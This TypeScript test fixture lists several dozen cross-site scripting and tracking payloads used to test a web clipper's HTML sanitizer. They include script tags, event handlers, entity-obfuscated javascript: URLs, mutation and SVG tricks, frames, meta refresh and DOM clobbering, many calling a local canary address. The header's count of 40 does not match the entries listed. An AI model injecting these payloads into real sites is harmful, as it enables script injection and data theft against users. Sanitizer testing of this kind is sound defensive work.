/**
 * Hostile and tracking HTML for testing the clipper's sanitizer now and the reader's display later
 * (the e2e reader test renders these in Chromium with a canary server). Each payload is a fragment
 * placed inside an article body. `CANARY` is the address a payload would contact if anything got
 * through; tests rewrite it to their own server.
 */

/** The host every remote reference in the corpus points at. */
export const CANARY = 'http://127.0.0.1:9/canary';

/** One hostile fragment. */
export interface XssPayload {
  /** Short unique name, used in test titles. */
  name: string;
  /** The attack it tries. */
  kind:
    | 'event-handler'
    | 'script-url'
    | 'mutation'
    | 'svg'
    | 'frame'
    | 'base'
    | 'meta'
    | 'navigation'
    | 'remote-request'
    | 'form'
    | 'clobbering'
    | 'style'
    | 'script';
  html: string;
}

/** 40 payloads; see {@link XssPayload}. */
export const XSS_CORPUS: readonly XssPayload[] = [
  { name: 'script tag', kind: 'script', html: `<script>fetch('${CANARY}?script')</script>` },
  { name: 'script src', kind: 'script', html: `<script src="${CANARY}.js"></script>` },
  { name: 'img onerror', kind: 'event-handler', html: `<img src="x" onerror="fetch('${CANARY}?onerror')">` },
  {
    name: 'body onload',
    kind: 'event-handler',
    html: `<body onload="fetch('${CANARY}?onload')">text</body>`,
  },
  { name: 'div onmouseover', kind: 'event-handler', html: `<div onmouseover="alert(1)">hover me</div>` },
  { name: 'uppercase handler', kind: 'event-handler', html: `<p ONCLICK="alert(1)">click</p>` },
  {
    name: 'details ontoggle',
    kind: 'event-handler',
    html: `<details open ontoggle="alert(1)"><summary>s</summary></details>`,
  },
  { name: 'javascript href', kind: 'script-url', html: `<a href="javascript:alert(1)">link</a>` },
  { name: 'javascript tab entity', kind: 'script-url', html: `<a href="jav&#x09;ascript:alert(1)">link</a>` },
  {
    name: 'javascript newline entity',
    kind: 'script-url',
    html: `<a href="jav&#10;ascript:alert(1)">link</a>`,
  },
  {
    name: 'javascript decimal entities',
    kind: 'script-url',
    html: `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>`,
  },
  {
    name: 'javascript colon entity',
    kind: 'script-url',
    html: `<a href="javascript&colon;alert(1)">link</a>`,
  },
  {
    name: 'javascript mixed case and spaces',
    kind: 'script-url',
    html: `<a href="  JaVaScRiPt:alert(1)">link</a>`,
  },
  { name: 'vbscript href', kind: 'script-url', html: `<a href="vbscript:msgbox(1)">link</a>` },
  {
    name: 'data text/html href',
    kind: 'script-url',
    html: `<a href="data:text/html,<script>alert(1)</script>">link</a>`,
  },
  { name: 'javascript img src', kind: 'script-url', html: `<img src="javascript:alert(1)">` },
  {
    name: 'noscript mutation',
    kind: 'mutation',
    html: `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
  },
  { name: 'comment mutation', kind: 'mutation', html: `<!--<img src="--><img src=x onerror=alert(1)//">` },
  {
    name: 'style mutation',
    kind: 'mutation',
    html: `<style><img src=x onerror=alert(1)></style><p>after</p>`,
  },
  {
    name: 'textarea mutation',
    kind: 'mutation',
    html: `<textarea></textarea><img src=x onerror=alert(1)></textarea>`,
  },
  { name: 'svg onload', kind: 'svg', html: `<svg onload="alert(1)"><circle r="5"/></svg>` },
  { name: 'svg script', kind: 'svg', html: `<svg><script>alert(1)</script></svg>` },
  {
    name: 'svg animate href',
    kind: 'svg',
    html: `<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text y="20">x</text></a></svg>`,
  },
  {
    name: 'math mglyph mutation',
    kind: 'mutation',
    html: `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`,
  },
  { name: 'iframe srcdoc', kind: 'frame', html: `<iframe srcdoc="<script>alert(1)</script>"></iframe>` },
  { name: 'iframe src', kind: 'frame', html: `<iframe src="${CANARY}?iframe"></iframe>` },
  { name: 'object data', kind: 'frame', html: `<object data="${CANARY}.swf"></object>` },
  { name: 'embed src', kind: 'frame', html: `<embed src="${CANARY}.swf">` },
  { name: 'base href', kind: 'base', html: `<base href="${CANARY}/"><a href="relative">rel</a>` },
  {
    name: 'meta refresh',
    kind: 'meta',
    html: `<meta http-equiv="refresh" content="0;url=${CANARY}?refresh">`,
  },
  { name: 'link stylesheet', kind: 'remote-request', html: `<link rel="stylesheet" href="${CANARY}.css">` },
  {
    name: 'link target _top',
    kind: 'navigation',
    html: `<a href="https://example.com/" target="_top">top</a>`,
  },
  {
    name: 'form target _blank',
    kind: 'navigation',
    html: `<a href="https://example.com/" target="_blank">blank</a>`,
  },
  {
    name: 'img srcset',
    kind: 'remote-request',
    html: `<img src="https://example.com/a.jpg" srcset="${CANARY}?srcset 2x">`,
  },
  {
    name: 'picture source',
    kind: 'remote-request',
    html: `<picture><source srcset="${CANARY}?source"><img src="https://example.com/a.jpg"></picture>`,
  },
  {
    name: 'video poster',
    kind: 'remote-request',
    html: `<video poster="${CANARY}?poster" src="${CANARY}.mp4"></video>`,
  },
  { name: 'style url', kind: 'style', html: `<p style="background:url(${CANARY}?style)">styled</p>` },
  { name: 'style expression', kind: 'style', html: `<p style="width:expression(alert(1))">old IE</p>` },
  {
    name: 'style tag import',
    kind: 'style',
    html: `<style>@import '${CANARY}.css'; body{background:url(${CANARY})}</style>`,
  },
  {
    name: 'form action',
    kind: 'form',
    html: `<form action="${CANARY}?form"><input name="q"><button>go</button></form>`,
  },
  { name: 'button formaction', kind: 'form', html: `<button formaction="javascript:alert(1)">x</button>` },
  {
    name: 'data attributes',
    kind: 'clobbering',
    html: `<div data-src="${CANARY}" data-bind="alert(1)">data</div>`,
  },
  {
    name: 'clobber id',
    kind: 'clobbering',
    html: `<img id="getElementById" name="cookie" src="https://example.com/a.jpg">`,
  },
  {
    name: 'clobber form name',
    kind: 'clobbering',
    html: `<form name="body"><input name="attributes"></form><a id="location" href="https://example.com/">x</a>`,
  },
  {
    name: 'protocol-relative img',
    kind: 'remote-request',
    html: `<img src="//127.0.0.1:9/canary?protorel">`,
  },
  { name: 'template content', kind: 'mutation', html: `<template><img src=x onerror=alert(1)></template>` },
];
